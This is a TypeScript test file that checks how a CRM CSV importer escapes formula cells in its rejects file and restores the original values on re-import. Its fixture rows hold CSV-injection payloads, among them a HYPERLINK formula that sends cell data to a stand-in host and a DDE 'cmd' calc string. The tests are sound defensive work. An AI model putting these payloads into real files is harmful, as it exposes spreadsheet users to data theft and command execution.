import { readFile } from "node:fs/promises";
import path from "node:path";
import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { runImport } from "../../src/imports/index.ts";
import { startTestEmulator, type TestEmulator } from "../helpers/emulator.ts";
import { type Scratch, scratch, simpleDefinition } from "./fixtures.ts";

let emu: TestEmulator;
let s: Scratch;
beforeEach(async () => {
  emu = await startTestEmulator();
  s = await scratch();
});
afterEach(async () => {
  await emu.close();
  await s.cleanup();
});

/** Email → email, Name → firstName, every other column a STRING property named after its header. */
const definition = simpleDefinition({ unmapped: "properties" });

const ORIGINAL = stringify([
  ["Email", "Name", "Notes"],
  ["ann@x.org", "'=kept as it is", '=HYPERLINK("http://evil.example/?"&A1,"x")'],
  ["bob at x", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0"],
  ["cy(at)x.org", "'=a genuine apostrophe", "+44 20 7946 0958"],
  ["-2+3+cmd@example.com", "Dee", "-5"],
]);

async function importFile(file: string, rejectsFile: string, parseInWorker?: boolean) {
  return runImport({
    file,
    definition,
    client: emu.client,
    rejectsFile,
    workDir: s.dir,
    ...(parseInWorker === undefined ? {} : { parseInWorker }),
  });
}

async function person(email: string) {
  const snap = await emu.snapshot();
  const p = snap.people.find((x) => x.email === email);
  const notes = snap.personProperties.find((x) => x.name === "Notes");
  return {
    firstName: p?.firstName,
    notes: p?.properties.find((x) => x.propertyId === notes?.propertyId)?.value,
  };
}

describe("a corrected rejects file imported again", () => {
  it("sends the values of the original file, not the escaped ones, and leaves other files' apostrophes alone", async () => {
    const first = await importFile(await s.file("crm.csv", ORIGINAL), path.join(s.dir, "crm.rejects.csv"));
    expect(first).toMatchObject({ rowsRead: 4, imported: 2, rejected: 2 });
    // An ordinary export's leading apostrophe is data.
    expect(await person("ann@x.org")).toEqual({
      firstName: "'=kept as it is",
      notes: '=HYPERLINK("http://evil.example/?"&A1,"x")',
    });
    expect(await person("-2+3+cmd@example.com")).toEqual({ firstName: "Dee", notes: "-5" });

    // The rejects file is safe to open: formulas escaped, genuine apostrophes doubled.
    const rejects = parse(await readFile(first.rejectsFile as string)) as string[][];
    expect(rejects).toEqual([
      ["_source_row", "_reject_reason", "_reject_code", "Email", "Name", "Notes"],
      [
        "3",
        expect.stringMatching(/^Email: /),
        "invalid_format",
        "bob at x",
        "'@SUM(1+1)",
        "'-2+3+cmd|' /C calc'!A0",
      ],
      [
        "4",
        expect.stringMatching(/^Email: /),
        "invalid_format",
        "cy(at)x.org",
        "''=a genuine apostrophe",
        "'+44 20 7946 0958",
      ],
    ]);

    // Someone mends the emails in a spreadsheet and saves the file as it shows it.
    const mended = ["bob@x.org", "cy@x.org"];
    const fixed = rejects.map((r, i) =>
      i === 0 ? r : [...r.slice(0, 3), mended[i - 1] as string, ...r.slice(4)],
    );
    const corrected = await s.file("crm.rejects.fixed.csv", stringify(fixed));
    const again = await importFile(corrected, path.join(s.dir, "again.rejects.csv"), true);
    expect(again).toMatchObject({ rowsRead: 2, imported: 2, rejected: 0, rejectsFile: null });
    // The rejects file's own columns are not the person's.
    expect(again.unmappedColumns).toEqual(["Notes"]);

    expect(await person("bob@x.org")).toEqual({ firstName: "@SUM(1+1)", notes: "-2+3+cmd|' /C calc'!A0" });
    expect(await person("cy@x.org")).toEqual({
      firstName: "'=a genuine apostrophe",
      notes: "+44 20 7946 0958",
    });
  });

  it("still reads a rejects file written before it had a _reject_code column", async () => {
    const first = await importFile(await s.file("crm.csv", ORIGINAL), path.join(s.dir, "old.rejects.csv"));
    const rejects = parse(await readFile(first.rejectsFile as string)) as string[][];
    // As an older version wrote it: no code column; the emails mended.
    const mended = ["bob@x.org", "cy@x.org"];
    const older = rejects.map((r, i) =>
      i === 0
        ? [...r.slice(0, 2), ...r.slice(3)]
        : [...r.slice(0, 2), mended[i - 1] as string, ...r.slice(4)],
    );
    const again = await importFile(
      await s.file("old.fixed.csv", stringify(older)),
      path.join(s.dir, "x.csv"),
      true,
    );
    expect(again).toMatchObject({ rowsRead: 2, imported: 2, rejected: 0 });
    expect(again.unmappedColumns).toEqual(["Notes"]);
    expect(await person("bob@x.org")).toEqual({ firstName: "@SUM(1+1)", notes: "-2+3+cmd|' /C calc'!A0" });
  });

  it("writes the rejects of a rejects file the same way, so a second round trip restores them too", async () => {
    const first = await importFile(await s.file("crm.csv", ORIGINAL), path.join(s.dir, "one.rejects.csv"));
    const second = await importFile(first.rejectsFile as string, path.join(s.dir, "two.rejects.csv"));
    expect(second).toMatchObject({ rowsRead: 2, imported: 0, rejected: 2 });
    const one = parse(await readFile(first.rejectsFile as string)) as string[][];
    const two = parse(await readFile(second.rejectsFile as string)) as string[][];
    // Same cells; only the row numbers now point into the first rejects file.
    expect(two.map((r) => r.slice(1))).toEqual(one.map((r) => r.slice(1)));
    expect(two.slice(1).map((r) => r[0])).toEqual(["2", "3"]);
  });
});
